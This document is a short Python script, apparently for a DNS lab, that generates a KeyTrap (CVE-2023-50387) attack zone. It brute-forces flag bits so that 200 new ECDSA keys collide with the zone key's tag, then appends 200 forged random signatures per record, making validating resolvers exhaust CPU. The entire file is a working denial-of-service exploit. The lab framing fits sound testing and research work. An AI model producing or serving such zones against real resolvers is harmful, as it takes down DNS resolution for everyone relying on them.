#!/usr/bin/env python3
"""lab_keytrap.py - makes a signed zone costly to validate (CVE-2023-50387), for lab_dns.sh.

lab_keytrap.py ZONE FILE

Prints the zone of FILE with KEYS more keys that have the tag of the zone's own, which a
validator cannot tell apart but by trying, and SIGNATURES that none of them made.
"""
import base64
import os
import re
import sys

from cryptography.hazmat.primitives.asymmetric import ec

KEYS = 200
SIGNATURES = 200


def total(octets):
    return sum(byte << 8 if n % 2 == 0 else byte for n, byte in enumerate(octets))


def decoy(want):
    """A key of algorithm 13 with that tag (RFC 4034 appendix B): free bits of its flags make
    it fit."""
    while True:
        n = ec.generate_private_key(ec.SECP256R1()).public_key().public_numbers()
        key = n.x.to_bytes(32, "big") + n.y.to_bytes(32, "big")
        rest = total(b"\3\r" + key)
        for flags in range(0x100, 0x10000, 2):
            whole = rest + flags
            if (whole + (whole >> 16)) & 0xFFFF == want and flags & 0x180 == 0x100:
                return f"{flags} 3 13 {base64.b64encode(key).decode()}"


def main():
    zone, file = sys.argv[1:]
    with open(file, encoding="ascii") as text:
        lines = text.read().splitlines()
    print("\n".join(lines))
    head = re.compile(rf"{re.escape(zone)}\.\s+(?:\d+\s+)?(?:IN\s+)?RRSIG\s+DNSKEY\s+(.*)")
    signature = next(m[1] for m in map(head.match, lines) if m).split()
    for _ in range(KEYS):
        print(f"{zone}. 5 DNSKEY {decoy(int(signature[5]))}")
    for line in lines:
        if found := re.match(r"(\S+)\s+(?:\d+\s+)?(?:IN\s+)?RRSIG\s+(DNSKEY|A)\s+(.*)", line):
            fields = found[3].split()
            for _ in range(SIGNATURES):
                forged = base64.b64encode(os.urandom(64)).decode()
                print(f"{found[1]} 5 RRSIG {found[2]} {' '.join(fields[:7])} {forged}")


main()
